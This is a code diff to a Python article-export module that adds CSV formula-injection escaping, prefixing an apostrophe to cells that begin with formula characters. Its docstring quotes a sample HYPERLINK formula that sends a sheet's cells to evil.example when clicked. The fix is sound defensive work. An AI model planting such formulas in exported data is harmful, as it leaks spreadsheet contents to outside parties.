@@ -26,6 +26,20 @@ TOMBSTONE = ("id", "url", "changed_at", "withdrawn_at")
 names it, so that the copy it is synced into removes it; its text is no longer the site's to show."""
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet reads a cell starting with as a formula (OWASP's list). A source's title
+``=HYPERLINK("https://evil.example/?leak="&A2,"Click")`` ran when the CSV export was opened in one: a click on
+it sent the sheet's other cells to evil.example."""
+
+
+def spreadsheet_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text: one that would start a formula (``FORMULA_STARTS``) with a ``'``
+    before it, which the spreadsheet does not show. Only CSV's: JSON Lines is read by programs, and stays exact."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def record(row: Any, source_name: str) -> dict[str, Any]:
     values = row._mapping
     return {name: utc_iso(values[name]) if name in _TIMES else values.get(name) for name in COLUMNS} | {
@@ -97,9 +111,8 @@ def export_articles(
         data = tombstone(row) if withdrawn else record(row, name(row.source))
         if writer is not None:
             outlets = data["cited_outlets"]
-            writer.writerow(
-                data | {"cited_outlets": "" if outlets is None else json.dumps(outlets, ensure_ascii=False)}
-            )
+            cells = data | {"cited_outlets": "" if outlets is None else json.dumps(outlets, ensure_ascii=False)}
+            writer.writerow({name: spreadsheet_cell(value) for name, value in cells.items()})
         else:
             stream.write(json.dumps(data, ensure_ascii=False) + "\n")
         written += 1
